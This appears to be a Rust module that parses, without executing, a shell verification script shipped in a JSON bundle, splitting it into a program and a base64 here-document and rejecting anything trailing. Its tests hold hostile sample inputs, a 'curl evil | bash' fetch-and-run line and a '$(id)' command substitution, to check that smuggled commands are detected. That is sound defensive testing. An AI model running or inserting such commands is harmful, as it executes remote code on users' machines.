//! The script that comes with a served bundle, as `offlineVerification` (docs/WIRE.md, "The served script"): taken apart,
//! never run. The program part is what a release lists; the rest is the bundle once more.

use std::fmt;

use crate::{
    bundle::{MAX_BYTES, SCRIPT_MEMBER},
    frame::Digest,
    json::{self, Limits, Value},
    profile::{from_base64, hex_of},
};

/// The program's last line ends so, and opens the here-document that holds the bundle.
const OPENS: &str = "<<'SEALGATE_BUNDLE_BASE64'";
/// The line that ends the here-document, and the script.
const END: &str = "SEALGATE_BUNDLE_BASE64\n";

/// A served script in its parts.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct ServedScript {
    /// P: everything to the end of the line that opens the here-document.
    pub program: String,
    /// The bundle that the script would judge, as bytes.
    pub bundle: Vec<u8>,
    /// What `sha256` says that P has.
    pub sha256: Digest,
}

/// Why what came as a script is none of ours.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum ServedScriptError {
    /// `offlineVerification` has no text `script`.
    NoScript,
    /// It has no `sha256` of 64 lower-case digits.
    NoDigest,
    /// No line opens the here-document.
    NoProgram,
    /// After the program there is something else than one bundle in base64: a shell would run what follows.
    NotOneBundle,
    /// The script holds another bundle than the one that it came with.
    OtherBundle,
}

impl fmt::Display for ServedScriptError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("bundle.offlineVerification")?;
        f.write_str(match self {
            Self::NoScript => ".script: want a text",
            Self::NoDigest => ".sha256: want 64 lower-case hexadecimal digits",
            Self::NoProgram => ".script: no line opens the here-document with the bundle",
            Self::NotOneBundle => ".script: want one bundle in base64 after the program and nothing else",
            Self::OtherBundle => ".script: it holds another bundle than the one that it came with",
        })
    }
}

impl std::error::Error for ServedScriptError {}

impl ServedScript {
    /// The script that came with these bytes of a bundle. `None`: none did, or they are no bundle at all.
    ///
    /// # Errors
    /// [`ServedScriptError`].
    pub fn of_bundle(served: &[u8]) -> Result<Option<Self>, ServedScriptError> {
        let limits = Limits { bytes: 3 * MAX_BYTES, ..Limits::OURS };
        let Ok(value) = json::parse(served, &limits) else { return Ok(None) };
        let Some(member) = value.member(SCRIPT_MEMBER).filter(|member| **member != Value::Null) else {
            return Ok(None);
        };
        let script = member.member("script").and_then(Value::as_str).ok_or(ServedScriptError::NoScript)?;
        let sha256 = member.member("sha256").and_then(hex_of).ok_or(ServedScriptError::NoDigest)?;
        let mut end = 0;
        let opened = script.split_inclusive('\n').any(|line| {
            end += line.len();
            line.strip_suffix('\n').is_some_and(|line| line.ends_with(OPENS))
        });
        let (program, rest) = script.split_at_checked(end).filter(|_| opened).ok_or(ServedScriptError::NoProgram)?;
        let bundle = rest.strip_suffix(END).filter(|lines| lines.is_empty() || lines.ends_with('\n'));
        let bundle = bundle.and_then(|lines| from_base64(&lines.replace('\n', "")));
        let bundle = bundle.ok_or(ServedScriptError::NotOneBundle)?;
        Ok(Some(Self { program: program.to_owned(), bundle, sha256 }))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::json::object;

    const PROGRAM: &str = "{\necho judging\nexit 0\n} <<'SEALGATE_BUNDLE_BASE64'\n";

    fn served(script: &str) -> String {
        let member = object([("script", script.into()), ("sha256", "0a".repeat(32).into()), ("command", "".into())]);
        object([("type", "bundle".into()), (SCRIPT_MEMBER, member)]).to_text()
    }

    #[test]
    fn a_script_is_taken_apart_at_the_line_that_opens_its_bundle() {
        let script = format!("{PROGRAM}aGVs\nbG8=\n{END}");
        let read = ServedScript::of_bundle(served(&script).as_bytes()).unwrap().unwrap();
        assert_eq!((&*read.program, &*read.bundle, read.sha256), (PROGRAM, &b"hello"[..], [10; 32]));
        // The first such line is the one at which a reader cuts with sed.
        let twice = format!("{PROGRAM}{script}");
        assert_eq!(ServedScript::of_bundle(served(&twice).as_bytes()), Err(ServedScriptError::NotOneBundle));
        for bare in ["{}", "[]", "{\"offlineVerification\":null}", "no JSON"] {
            assert_eq!(ServedScript::of_bundle(bare.as_bytes()), Ok(None), "{bare}");
        }
    }

    #[test]
    fn what_a_shell_would_run_after_the_bundle_is_found() {
        for (script, error) in [
            (format!("{PROGRAM}aGVsbG8=\n{END}curl evil | bash\n"), ServedScriptError::NotOneBundle),
            (format!("{PROGRAM}aGVsbG8=\n{END}{END}"), ServedScriptError::NotOneBundle),
            (format!("{PROGRAM}aGVsbG8={END}"), ServedScriptError::NotOneBundle),
            (format!("{PROGRAM}aGVsbG8\n{END}"), ServedScriptError::NotOneBundle),
            (format!("{PROGRAM}$(id)\n{END}"), ServedScriptError::NotOneBundle),
            (format!("{PROGRAM}aGVsbG8=\n"), ServedScriptError::NotOneBundle),
            ("echo accepted".to_owned(), ServedScriptError::NoProgram),
            (PROGRAM.trim_end().to_owned(), ServedScriptError::NoProgram),
            (String::new(), ServedScriptError::NoProgram),
        ] {
            assert_eq!(ServedScript::of_bundle(served(&script).as_bytes()), Err(error), "{script}");
        }
        let good = served(&format!("{PROGRAM}{END}"));
        for (from, to, error) in [
            ("\"script\"", "\"scribble\"", ServedScriptError::NoScript),
            (&*"0a".repeat(32), &*"0A".repeat(32), ServedScriptError::NoDigest),
            ("\"sha256\"", "\"sha512\"", ServedScriptError::NoDigest),
        ] {
            let changed = good.replacen(from, to, 1);
            assert_ne!(changed, good);
            assert_eq!(ServedScript::of_bundle(changed.as_bytes()), Err(error), "{to}");
        }
    }
}
